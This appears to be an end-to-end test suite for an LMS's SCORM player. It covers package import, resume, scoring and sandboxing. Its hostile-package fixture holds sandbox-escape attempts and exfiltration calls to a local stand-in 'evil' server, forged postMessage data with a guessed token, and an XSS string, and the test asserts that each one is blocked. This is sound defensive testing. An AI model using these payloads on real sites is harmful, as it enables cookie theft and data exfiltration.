import type { Buffer } from 'node:buffer';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { aPackage, page as aPage } from '../src/server/modules/scorm/testing.ts';
import { useBrowser } from './browser.ts';

const { open } = useBrowser();

/** A place that a hostile package would like to talk to: nothing may ever arrive. */
const asked: string[] = [];
const elsewhere = createServer((request, response) => {
	asked.push(`${request.method} ${request.url}`);
	response.setHeader('access-control-allow-origin', '*');
	response.end('globalThis.remote = true;');
});
let evil = '';
beforeAll(async () => {
	await new Promise<void>((resolve) => elsewhere.listen(0, '127.0.0.1', resolve));
	evil = `http://127.0.0.1:${(elsewhere.address() as AddressInfo).port}`;
});
afterAll(() => void elsewhere.close());

/** Finds the API as packages do since 2001: in its own window, then in those above. */
const finder = `<script>
function find(name) { var w = window, n = 0; while (!w[name] && w.parent && w.parent !== w && n++ < 10) w = w.parent; return w[name]; }
var api = find('API'), api4 = find('API_1484_11');
</script>`;

const twelve = aPage(
	`<p id="out">-</p><button id="half">half</button><a id="next" href="second.html">next</a>
	<script>
		api.LMSInitialize('');
		document.getElementById('out').textContent = [api.LMSGetValue('cmi.core.entry'), api.LMSGetValue('cmi.core.student_name'),
			api.LMSGetValue('cmi.core.lesson_location')].join('|');
		document.getElementById('half').onclick = function () {
			api.LMSSetValue('cmi.core.lesson_status', 'incomplete');
			api.LMSSetValue('cmi.core.lesson_location', 'page-2');
			api.LMSSetValue('cmi.suspend_data', '进度=50');
			api.LMSSetValue('cmi.core.exit', 'suspend');
			document.getElementById('out').textContent = 'committed ' + api.LMSCommit('');
		};
	</script>`,
	finder,
);
// The next page of the same SCO goes on without initialising again, as packages of several pages do.
const second = aPage(
	`<p id="out">-</p><script>
		document.getElementById('out').textContent = api.LMSGetValue('cmi.core.lesson_location') + '|' + api.LMSGetLastError();
		api.LMSSetValue('cmi.core.score.raw', '90');
		api.LMSSetValue('cmi.core.lesson_status', 'passed');
		api.LMSSetValue('cmi.core.exit', '');
		api.LMSFinish('');
	</script>`,
	finder,
);

const four = aPage(
	`<p id="out">-</p><script>
		var said = [api4.Initialize(''), api4.GetValue('cmi.mode'), api4.GetValue('cmi.completion_status')];
		api4.SetValue('cmi.interactions.0.id', 'q1');
		api4.SetValue('cmi.interactions.0.type', 'choice');
		api4.SetValue('cmi.interactions.0.learner_response', 'b');
		api4.SetValue('cmi.interactions.0.result', 'correct');
		api4.SetValue('cmi.score.scaled', '0.8');
		api4.SetValue('cmi.completion_status', 'completed');
		api4.SetValue('cmi.success_status', 'passed');
		said.push(api4.Terminate(''), api4.GetValue('cmi.mode'), api4.GetLastError());
		document.getElementById('out').textContent = said.join('|');
	</script><iframe id="inner" src="inner.html"></iframe>`,
	finder,
);
const inner = aPage(
	`<p id="own">-</p><script>document.getElementById('own').textContent = String(!!api4);</script>`,
	finder,
);

/** Everything that a package must not be able to do; what it found out stands in its page. */
const hostile = () =>
	aPage(
		`<p id="out">-</p><form id="away" method="post" action="${evil}/form"><button>away</button></form>
		<button id="leave" onclick="location.href='${evil}/leave'">leave</button><script>
		var found = {};
		function tried(name, act) { try { found[name] = String(act()); } catch (error) { found[name] = 'threw ' + error.name; } }
		tried('parent', function () { return parent.document.title; });
		tried('top', function () { return top.document.cookie; });
		tried('topHref', function () { return top.location.href; });
		tried('cookie', function () { return document.cookie; });
		tried('setCookie', function () { document.cookie = 'a=b'; return document.cookie; });
		tried('storage', function () { return localStorage.length; });
		tried('indexed', function () { return indexedDB.open('x') && 'opened'; });
		tried('popup', function () { return window.open('${evil}/popup'); });
		tried('navigate', function () { top.location = '${evil}/top'; return 'set'; });
		tried('dialog', function () { return confirm('?'); });
		tried('origin', function () { return self.origin; });
		tried('parentApi', function () { return Object.keys(parent).length; });
		var image = new Image(); image.src = '${evil}/pixel';
		var script = document.createElement('script'); script.src = '${evil}/remote.js'; document.head.append(script);
		var nested = document.createElement('iframe'); nested.src = '${evil}/frame'; document.body.append(nested);
		var site = document.createElement('iframe'); site.src = '/settings'; document.body.append(site);
		var links = document.createElement('link'); links.rel = 'stylesheet'; links.href = '${evil}/style.css'; document.head.append(links);
		navigator.sendBeacon('${evil}/beacon', 'x');
		parent.postMessage({ stoa: 'scorm', token: 'guessed', type: 'keep', stored: [['cmi.core.lesson_status', 'passed']], final: true }, '*');
		parent.postMessage({ stoa: 'scorm', type: 'keep', stored: '<img src=x onerror=alert(1)>' }, '*');
		Promise.all([
			fetch('${evil}/fetch').then(function () { return 'arrived'; }, function () { return 'refused'; }),
			fetch('/api/v1/me', { credentials: 'include' }).then(function (r) { return 'status ' + r.status; }, function () { return 'refused'; }),
			fetch('/', { credentials: 'include' }).then(function (r) { return 'status ' + r.status; }, function () { return 'refused'; }),
			new Promise(function (go) { setTimeout(function () { go(String(window.remote)); }, 1500); }),
		]).then(function (asked) {
			found.fetched = asked.join(' ');
			document.getElementById('out').textContent = JSON.stringify(found);
		});
	</script>`,
		finder,
	);

const author = 'he-ping';
const learnerName = 'bai-lu';
let course = '';

async function importInto(page: Page, bytes: Buffer, name: string): Promise<void> {
	await page.goto(`/studio/courses/${course}/packages`);
	const uploaded = page.waitForFunction(
		() => (document.getElementById('package-media') as HTMLInputElement)?.value !== '',
	);
	await page.setInputFiles('input[type=file]', { name, mimeType: 'application/zip', buffer: bytes });
	await uploaded;
	await page.locator('form[action="?/import"] button').click();
}

const lessonHref = async (page: Page, title: string) => {
	await page.goto(`/courses/${course}`);
	return (await page.locator('.course-outline a', { hasText: title }).first().getAttribute('href'))!;
};
const frameOf = (page: Page) => page.frameLocator('[data-scorm-stage] iframe');

/** Presses something in the frame until it has said so: the page scrolls to the frame, and a press may come where it was. */
async function press(page: Page, what: string, says: string): Promise<void> {
	const out = frameOf(page).locator('#out');
	await expect
		.poll(async () => {
			const there = frameOf(page).locator(what);
			if ((await out.innerText()) !== says && (await there.count()) > 0)
				await there.click({ timeout: 1000 }).catch(() => {});
			await page.waitForTimeout(300);
			return out.innerText();
		})
		.toBe(says);
}

test('packages of both versions are imported in the studio, made into lessons and published', async () => {
	const studio = await open(author);
	const { page } = studio;
	await page.goto('/studio/courses');
	await page.fill('form[action="?/create"] [name=title]', `Packages ${Date.now().toString(36)}`);
	await page.selectOption('[name=language]', 'en');
	await page.locator('form[action="?/create"] button.btn-primary').click();
	await page.waitForURL(/\/studio\/courses\/\d+$/);
	course = new URL(page.url()).pathname.split('/').at(-1)!;
	const packages: [string, Buffer][] = [
		[
			'twelve.zip',
			aPackage({
				title: 'Old',
				scos: { Twelve: 'index.html' },
				files: { 'index.html': twelve, 'second.html': second },
			}),
		],
		[
			'four.zip',
			aPackage({
				version: '2004',
				title: 'New',
				scos: { Four: 'index.html' },
				files: { 'index.html': four, 'inner.html': inner },
			}),
		],
		[
			'hostile.zip',
			aPackage({ title: 'Evil', scos: { Hostile: 'index.html' }, files: { 'index.html': hostile() } }),
		],
	];
	for (const [name, bytes] of packages) {
		await importInto(page, bytes, name);
		// The page looks again by itself until it is unpacked.
		await page
			.locator('article.package', { hasText: name })
			.locator('form[action="?/lessons"] button')
			.click({ timeout: 30_000 });
		await page.waitForURL(/made=1/);
	}
	await importInto(page, aPackage({ manifest: null }), 'empty.zip');
	const refused = page.locator('article.package', { hasText: 'empty.zip' }).locator('[role=alert], .banner');
	await expect
		.poll(() => refused.allInnerTexts(), { timeout: 30_000 })
		.toEqual([expect.stringContaining('imsmanifest.xml')]);
	await page.goto(`/studio/courses/${course}`);
	await page.locator('form[action="?/publish"] button.btn-primary').click();
	await page.waitForURL(/published=1/);
	await studio.close();
}, 120_000);

test('a package of SCORM 1.2 plays, is left, gone on with elsewhere and passed', async () => {
	const phone = await open(learnerName, { viewport: { width: 390, height: 844 } });
	const href = await lessonHref(phone.page, 'Part Twelve');
	await phone.page.goto(href);
	await phone.page.locator('[data-scorm-start]').first().click();
	const out = frameOf(phone.page).locator('#out');
	await expect.poll(() => out.innerText()).toMatch(/^ab-initio\|.+\|$/);
	const kept = phone.page.waitForResponse((answer) => answer.url().endsWith('/package/data') && answer.ok());
	await press(phone.page, '#half', 'committed true');
	await kept;
	expect(await phone.page.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(390);
	await phone.close();

	const desk = await open(learnerName);
	await desk.page.goto(href);
	await desk.page.locator('[data-scorm-start]').first().click();
	await expect.poll(() => frameOf(desk.page).locator('#out').innerText()).toMatch(/^resume\|.+\|page-2$/);
	await press(desk.page, '#next', 'page-2|0');
	await expect.poll(() => desk.page.locator('[data-when-done]').isVisible()).toBe(true);
	await desk.page.reload();
	expect(await desk.page.locator('[data-scorm-state]').innerText()).toMatch(/^(?:Passed|已通过) · 90%$/);
	await desk.close();
});

test('a package of SCORM 2004 with a frame of its own finds the API in both, and its answers reach the report', async () => {
	const learner = await open(learnerName);
	await learner.page.goto(await lessonHref(learner.page, 'Part Four'));
	await learner.page.locator('[data-scorm-start]').first().click();
	const frame = frameOf(learner.page);
	await expect.poll(() => frame.locator('#out').innerText()).toBe('true|normal|unknown|true||123');
	await expect.poll(() => frame.frameLocator('#inner').locator('#own').innerText()).toBe('true');
	await expect.poll(() => learner.page.locator('[data-when-done]').isVisible()).toBe(true);
	const teacher = await open(author);
	const lesson = new URL(learner.page.url()).pathname;
	await teacher.page.goto(`/studio${lesson}/attempts`);
	await teacher.page.locator('main ul.rows details summary').first().click();
	expect(await teacher.page.locator('main ul.rows details ol li').first().innerText()).toMatch(
		/^q1 b (?:right|正确)$/,
	);
	await teacher.close();
	await learner.close();
});

test('a hostile package reaches neither the page around it, nor the site, nor anything else', async () => {
	const learner = await open(learnerName);
	const { page } = learner;
	await page.goto(await lessonHref(page, 'Part Hostile'));
	const at = page.url();
	let popups = 0;
	learner.context.on('page', () => (popups += 1));
	let wrote = 0;
	page.on('request', (request) => {
		if (request.url().endsWith('/package/data')) wrote += 1;
	});
	await page.locator('[data-scorm-start]').first().click();
	const out = frameOf(page).locator('#out');
	await expect.poll(() => out.innerText(), { timeout: 30_000 }).toContain('{');
	const found = JSON.parse(await out.innerText()) as Record<string, string>;
	expect(found).toEqual({
		// What stands there has the API, and nothing of the page.
		parent: 'threw TypeError',
		top: 'threw SecurityError',
		topHref: 'threw SecurityError',
		cookie: 'threw SecurityError',
		setCookie: 'threw SecurityError',
		storage: 'threw SecurityError',
		indexed: 'threw SecurityError',
		popup: 'null',
		navigate: expect.stringMatching(/^(?:set|threw SecurityError)$/),
		dialog: 'false',
		origin: 'null',
		parentApi: expect.any(String),
		fetched: 'refused refused refused undefined',
	});
	// A form, and its own frame led away, end in the frame.
	await frameOf(page).locator('#away button').click();
	await page.waitForTimeout(300);
	const leave = frameOf(page).locator('#leave');
	if (await leave.isVisible()) await leave.click();
	await page.waitForTimeout(500);
	expect(page.url()).toBe(at);
	expect(popups).toBe(0);
	expect(asked).toEqual([]);
	// What it sent with a guessed token was not taken for anything.
	expect(wrote).toBe(0);
	expect(await page.locator('[data-when-done]').isVisible()).toBe(false);
	// Its address is no page of its own, which would stand under this site's name.
	const address = await page.locator('[data-scorm-stage] iframe').getAttribute('src');
	expect((await page.goto(address!))?.status()).toBe(403);
	expect(asked).toEqual([]);
	await learner.context.close();
}, 120_000);
